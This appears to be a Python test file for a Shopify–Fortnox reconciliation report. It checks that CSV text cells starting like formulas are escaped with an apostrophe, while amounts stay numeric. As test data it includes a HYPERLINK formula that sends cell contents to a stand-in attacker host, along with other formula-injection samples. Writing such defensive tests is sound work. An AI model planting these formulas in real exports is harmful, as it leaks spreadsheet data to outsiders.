"""The report's CSV opens in a spreadsheet as data: no cell from Shopify or Fortnox runs as a
formula (CSV injection), and amounts stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest

from services.fortnox_writer.reconciliation.compare import (
    CSV_COLUMNS,
    build_report,
    text_cell,
    to_csv,
)
from services.fortnox_writer.reconciliation.fortnox_side import FortnoxDocument, FortnoxPeriod
from services.fortnox_writer.reconciliation.shopify_side import ShopifyOrder

D = Decimal
START, END = date(2026, 11, 1), date(2026, 11, 30)
FORMULA = '=HYPERLINK("https://attacker.invalid/?"&A1,"Open")'


def shopify_order(name: str) -> ShopifyOrder:
    return ShopifyOrder(
        order_id="5001",
        name=name,
        created=date(2026, 11, 3),
        currency="SEK",
        total=D("125.00"),
        vat=D("25.00"),
        vat_by_rate={"25": D("25.00")},
        cancelled=False,
        paid=D("125.00"),
        created_at=datetime(2026, 11, 3, 9, tzinfo=UTC),
        taxes_included=True,
        captured=D("125.00"),
    )


def invoice(number: str, order_id: str, total: str, vat: str) -> FortnoxDocument:
    return FortnoxDocument(
        number=number,
        kind="invoice",
        order_id=order_id,
        refund_id=None,
        day=date(2026, 11, 3),
        currency="SEK",
        total=D(total),
        vat=D(vat),
        vat_by_rate={"25": D(vat)},
        paid=D(total),
    )


def rows_of(text: str) -> list[dict[str, str]]:
    reader = csv.reader(io.StringIO(text))
    assert tuple(next(reader)) == CSV_COLUMNS
    return [dict(zip(CSV_COLUMNS, row, strict=True)) for row in reader]


def test_a_formula_in_an_order_name_or_a_fortnox_reference_is_written_as_text() -> None:
    # The merchant's order name and a hand-made Fortnox invoice's reference both hold formulas;
    # the invoice of order 5001 was also edited down in Fortnox (an amount difference).
    documents = [
        invoice("1", "5001", "100.00", "20.00"),
        invoice("2", "@SUM(1+1)", "-5.00", "-1.00"),
    ]
    report = build_report("s", START, END, [shopify_order(FORMULA)], FortnoxPeriod(documents), None)
    rows = rows_of(to_csv(report))
    order = next(row for row in rows if row["order_id"] == "5001")
    assert order["order_name"] == "'" + FORMULA
    assert (order["shopify_total"], order["fortnox_total"]) == ("125.00", "100.00")
    assert "125.00 vs 100.00" in order["differences"]
    extra = next(row for row in rows if row["order_id"].endswith("@SUM(1+1)"))
    assert extra["order_id"] == "'@SUM(1+1)"
    assert extra["fortnox_total"] == "-5.00"  # an amount: a negative number, not escaped
    for row in rows:  # no text cell that a spreadsheet would evaluate
        for column in ("order_id", "order_name", "currency", "documents", "differences"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), (column, row)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+46 70", "'+46 70"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\r=1", "'\r=1"),
        ("#1001", "#1001"),
        ("invoice:7", "invoice:7"),
        ("", ""),
        (None, ""),
    ],
)
def test_text_cells_that_start_like_a_formula_get_an_apostrophe(
    value: str | None, written: str
) -> None:
    assert text_cell(value) == written
